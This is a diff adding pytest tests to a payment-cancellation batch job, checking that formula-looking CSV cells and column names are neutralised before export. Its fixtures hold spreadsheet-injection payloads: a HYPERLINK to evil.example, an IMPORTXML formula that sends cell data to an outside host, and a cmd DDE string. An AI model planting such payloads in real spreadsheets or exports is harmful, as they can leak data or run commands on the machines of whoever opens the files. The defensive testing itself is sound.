@@ -10,6 +10,7 @@ from conftest import API_URL, SECRET, FakeIamport, envelope
 from batch.client import Credentials
 from batch.config import RunConfig
 from batch.job import execute, prepare
+from batch.reports import neutralise_formulas
 from batch.retry import BackoffPolicy
 
 INPUT = """\
@@ -177,3 +178,73 @@ def test_journal_has_a_header_and_one_outcome_per_sent_row(run_dir):
     assert lines[0]["options"]["api_url"] == API_URL
     outcomes = [line for line in lines if line["type"] == "outcome"]
     assert sorted(o["row"] for o in outcomes) == [2, 3, 6, 8]
+
+
+# --- spreadsheet safety ----------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("value", "shown"),
+    [
+        ('=HYPERLINK("http://x.example","click")', '\'=HYPERLINK("http://x.example","click")'),
+        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+        ("+82-10-1234-5678", "'+82-10-1234-5678"),
+        ("-2+3", "'-2+3"),
+        ("\tTAB", "'\tTAB"),
+        ("\rCR", "'\rCR"),
+        ("-1500", "-1500"),
+        ("-1500.50", "-1500.50"),
+        ("+82", "+82"),
+        ("배송 완료 = 정상", "배송 완료 = 정상"),
+        ("", ""),
+    ],
+)
+def test_formula_looking_cells_are_neutralised_and_numbers_kept(value, shown):
+    table = pd.DataFrame({"memo": [value]})
+    assert neutralise_formulas(table)["memo"].tolist() == [shown]
+
+
+def test_formula_looking_column_names_are_neutralised_too():
+    table = pd.DataFrame({"=cmd|' /C calc'!A0": ["x"], "memo": ["y"]})
+    assert list(neutralise_formulas(table).columns) == ["'=cmd|' /C calc'!A0", "memo"]
+
+
+def test_results_are_safe_to_open_and_failures_keep_raw_values(tmp_path, write_csv, clock):
+    iamport = FakeIamport()
+    iamport.script["imp_2"] = [envelope(200, 1, '=IMPORTXML(CONCAT("http://x/",A1))')]
+    text = (
+        "imp_uid,status,memo\n"
+        'imp_1,CANCELED,"=HYPERLINK(""http://evil.example"",""환불"")"\n'
+        "imp_2,CANCELED,@SUM(A1)\n"
+        "imp_3,CANCELED,-5000\n"
+    )
+    config = RunConfig(
+        input_path=write_csv(text),
+        api_url=API_URL,
+        credentials=Credentials("key", SECRET),
+        rate=0,
+        out_dir=tmp_path / "run",
+    )
+    execute(prepare(config, clock), clock=clock, transport=iamport.transport())
+    results = read(tmp_path / "run" / "results.csv")
+    assert results["memo"].tolist() == [
+        '\'=HYPERLINK("http://evil.example","환불")',
+        "'@SUM(A1)",
+        "-5000",
+    ]
+    assert results.loc[1, "api_message"] == '\'=IMPORTXML(CONCAT("http://x/",A1))'
+    failures = read(tmp_path / "run" / "failures.csv")
+    assert failures["memo"].tolist() == ["@SUM(A1)"]  # raw, ready to be fixed and fed back
+
+
+def test_output_encoding_can_be_changed(tmp_path, write_csv, clock):
+    config = RunConfig(
+        input_path=write_csv("imp_uid,status,memo\nimp_1,취소,환불 😀\n"),
+        dry_run=True,
+        out_dir=tmp_path / "run",
+        output_encoding="cp949",
+    )
+    execute(prepare(config, clock), clock=clock)
+    raw = (tmp_path / "run" / "results.csv").read_bytes()
+    assert "환불 ?".encode("cp949") in raw  # what cp949 cannot hold becomes "?"
+    assert not raw.startswith(b"\xef\xbb\xbf")
